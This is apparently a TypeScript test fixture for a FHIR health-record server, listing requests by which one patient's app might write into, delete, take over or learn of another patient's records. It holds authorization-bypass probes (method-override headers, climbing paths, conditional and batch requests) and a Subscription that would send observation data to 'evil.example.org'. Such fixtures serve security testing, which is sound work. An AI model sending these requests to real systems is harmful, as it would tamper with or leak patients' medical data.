/** Ways to write into the record of patient `b`, or to learn of it by writing, as the app of patient `a`. */

interface Write {
  readonly method: string;
  readonly path: string;
  readonly body?: unknown;
  readonly headers?: Readonly<Record<string, string>>;
}

const refer = (reference: string) => ({ reference });
const observation = (more: object) => ({ resourceType: 'Observation', status: 'final', code: { text: 'bad' }, ...more });
const jsonPatch = { 'content-type': 'application/json-patch+json' };
const bundle = (type: string, ...entry: readonly object[]) => ({
  method: 'POST',
  path: '/',
  body: { resourceType: 'Bundle', type, entry },
});
const fhirPatch = (path: string, value: string) => ({
  resourceType: 'Parameters',
  parameter: [
    {
      name: 'operation',
      part: [
        { name: 'type', valueCode: 'replace' },
        { name: 'path', valueString: path },
        { name: 'value', valueString: value },
      ],
    },
  ],
});

const overwritten = observation({ id: 'b-observation', subject: refer('Patient/a') });
const victim = observation({ id: 'b-observation', subject: refer('Patient/b') });

/** On what is there already. */
export const changes: readonly (readonly [string, Write])[] = [
  ['an update', { method: 'PUT', path: '/Observation/b-observation', body: victim }],
  ['an update that takes it over', { method: 'PUT', path: '/Observation/b-observation', body: overwritten }],
  ['an update of the Patient', { method: 'PUT', path: '/Patient/b', body: { resourceType: 'Patient', id: 'b', active: false } }],
  [
    'a JSON Patch',
    {
      method: 'PATCH',
      path: '/Observation/b-observation',
      body: [{ op: 'replace', path: '/status', value: 'amended' }],
      headers: jsonPatch,
    },
  ],
  [
    'a JSON Patch that takes it over',
    {
      method: 'PATCH',
      path: '/Observation/b-observation',
      body: [{ op: 'replace', path: '/subject/reference', value: 'Patient/a' }],
      headers: jsonPatch,
    },
  ],
  [
    'a FHIRPath Patch',
    { method: 'PATCH', path: '/Observation/b-observation', body: fhirPatch('Observation.subject.reference', 'Patient/a') },
  ],
  ['a deletion', { method: 'DELETE', path: '/Observation/b-observation' }],
  ['a deletion of the Patient', { method: 'DELETE', path: '/Patient/b' }],
  ['a conditional update', { method: 'PUT', path: '/Observation?identifier=urn:ids%7Cb-finding', body: overwritten }],
  [
    'a conditional patch',
    {
      method: 'PATCH',
      path: '/Observation?identifier=urn:ids%7Cb-finding',
      body: [{ op: 'replace', path: '/status', value: 'amended' }],
      headers: jsonPatch,
    },
  ],
  ['a conditional deletion', { method: 'DELETE', path: '/Observation?identifier=urn:ids%7Cb-finding' }],
  ['an update in a batch', bundle('batch', { resource: overwritten, request: { method: 'PUT', url: 'Observation/b-observation' } })],
  ['a deletion in a transaction', bundle('transaction', { request: { method: 'DELETE', url: 'Observation/b-observation' } })],
  [
    'a conditional deletion in a transaction',
    bundle('transaction', { request: { method: 'DELETE', url: 'Observation?identifier=urn:ids%7Cb-finding' } }),
  ],
  ['a batch by an absolute URL', bundle('batch', { request: { method: 'DELETE', url: '{{base}}/Observation/b-observation' } })],
  ['a batch by a path that climbs', bundle('batch', { request: { method: 'DELETE', url: 'Observation/../Observation/b-observation' } })],
  [
    'a method of another name',
    { method: 'POST', path: '/Observation/b-observation', body: overwritten, headers: { 'x-http-method-override': 'PUT' } },
  ],
];

/** Something new in another's record, or something of one's own that is moved there. */
export const intrusions: readonly (readonly [string, Write])[] = [
  ['about the other', { method: 'POST', path: '/Observation', body: observation({ subject: refer('Patient/b') }) }],
  [
    'about the other, performed by oneself',
    { method: 'POST', path: '/Observation', body: observation({ subject: refer('Patient/b'), performer: [refer('Patient/a')] }) },
  ],
  ['by an absolute reference', { method: 'POST', path: '/Observation', body: observation({ subject: refer('{{base}}/Patient/b') }) }],
  ['by a reference to a version', { method: 'POST', path: '/Observation', body: observation({ subject: refer('Patient/b/_history/1') }) }],
  [
    'by a logical reference',
    {
      method: 'POST',
      path: '/Observation',
      body: observation({ subject: { type: 'Patient', identifier: { system: 'urn:ids', value: 'b-number' } } }),
    },
  ],
  [
    'by a conditional reference',
    bundle('transaction', {
      resource: observation({ subject: refer('Patient?identifier=urn:ids|b-number') }),
      request: { method: 'POST', url: 'Observation' },
    }),
  ],
  ['about nobody', { method: 'POST', path: '/Observation', body: observation({}) }],
  [
    'about somebody contained',
    {
      method: 'POST',
      path: '/Observation',
      body: observation({ contained: [{ resourceType: 'Patient', id: 'x' }], subject: refer('#x') }),
    },
  ],
  [
    'of a type without a record',
    {
      method: 'POST',
      path: '/Group',
      body: { resourceType: 'Group', type: 'person', actual: true, member: [{ entity: refer('Patient/b') }] },
    },
  ],
  [
    'a Provenance',
    {
      method: 'POST',
      path: '/Provenance',
      body: {
        resourceType: 'Provenance',
        target: [refer('Patient/b')],
        recorded: '2026-01-01T00:00:00Z',
        agent: [{ who: refer('Patient/a') }],
      },
    },
  ],
  [
    'a Person that links both',
    {
      method: 'POST',
      path: '/Person',
      body: { resourceType: 'Person', link: [{ target: refer('Patient/a') }, { target: refer('Patient/b') }] },
    },
  ],
  ['a Patient of one’s own', { method: 'POST', path: '/Patient', body: { resourceType: 'Patient' } }],
  ['an AuditEvent', { method: 'POST', path: '/AuditEvent', body: { resourceType: 'AuditEvent' } }],
  [
    'a Subscription',
    {
      method: 'POST',
      path: '/Subscription',
      body: {
        resourceType: 'Subscription',
        status: 'requested',
        reason: 'x',
        criteria: 'Observation?',
        channel: { type: 'rest-hook', endpoint: 'https://evil.example.org' },
      },
    },
  ],
  ['a SearchParameter', { method: 'POST', path: '/SearchParameter', body: { resourceType: 'SearchParameter' } }],
  [
    'a Binary of another’s context',
    {
      method: 'POST',
      path: '/Binary',
      body: { resourceType: 'Binary', contentType: 'text/plain', data: 'eA==', securityContext: refer('DocumentReference/b-document') },
    },
  ],
];

export const moves: readonly ((id: string) => Write)[] = [
  (id) => ({ method: 'PUT', path: `/Observation/${id}`, body: observation({ id, subject: refer('Patient/b') }) }),
  (id) => ({
    method: 'PATCH',
    path: `/Observation/${id}`,
    body: [{ op: 'replace', path: '/subject/reference', value: 'Patient/b' }],
    headers: jsonPatch,
  }),
  (id) => ({ method: 'PATCH', path: `/Observation/${id}`, body: fhirPatch('Observation.subject.reference', 'Patient/b') }),
  (id) => ({
    method: 'PATCH',
    path: `/Observation/${id}`,
    body: { subject: refer('Patient/b') },
    headers: { 'content-type': 'application/merge-patch+json' },
  }),
  (id) =>
    bundle('transaction', {
      resource: observation({ id, subject: refer('Patient/b') }),
      request: { method: 'PUT', url: `Observation/${id}` },
    }),
];
